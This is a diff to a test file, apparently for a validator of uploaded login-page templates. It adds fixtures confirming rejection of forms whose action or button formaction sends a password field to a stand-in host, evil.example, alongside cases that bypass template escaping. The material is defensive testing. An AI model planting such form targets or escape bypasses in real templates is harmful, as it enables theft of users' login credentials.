@@ -148,6 +148,23 @@ describe('refused without an event', () => {
     ['a value past the escaping', { archive: archiveOf({ 'login.html': '{{ username | raw }}' }) }, 'INVALID_VALUE input.archive'],
     ['another way past it', { archive: archiveOf({ 'parts/a.html': '{% echo username %}' }) }, 'INVALID_VALUE input.archive'],
     ['a third', { archive: archiveOf({ 'login.html': '{% cycle username, "b" %}' }) }, 'INVALID_VALUE input.archive'],
+    ...[
+      'action="https://evil.example/"',
+      "action='//evil.example'",
+      'action={{username}}',
+      'method="post"',
+      'action="{{ home }}.evil.example"',
+      'ACTION = "{{ t.home }}/"',
+    ].map((attribute): [string, object, string] => [
+      `a form with ${attribute}`,
+      { archive: archiveOf({ 'login.html': `<form ${attribute}><input name="password"></form>` }) },
+      'INVALID_VALUE input.archive',
+    ]),
+    [
+      'a button that leads elsewhere',
+      { archive: archiveOf({ 'parts/a.html': '<form action="{{ home }}/login"><button formaction="https://evil.example">' }) },
+      'INVALID_VALUE input.archive',
+    ],
     ['an unknown filter', { archive: archiveOf({ 'login.html': '{{ username | system }}' }) }, 'INVALID_VALUE input.archive'],
     ['a name with a slash', { name: 'a/b', archive: archiveOf({ 'login.html': 'x' }) }, 'INVALID_VALUE input.name'],
   ])('%s', async (_what, input, fault) => {
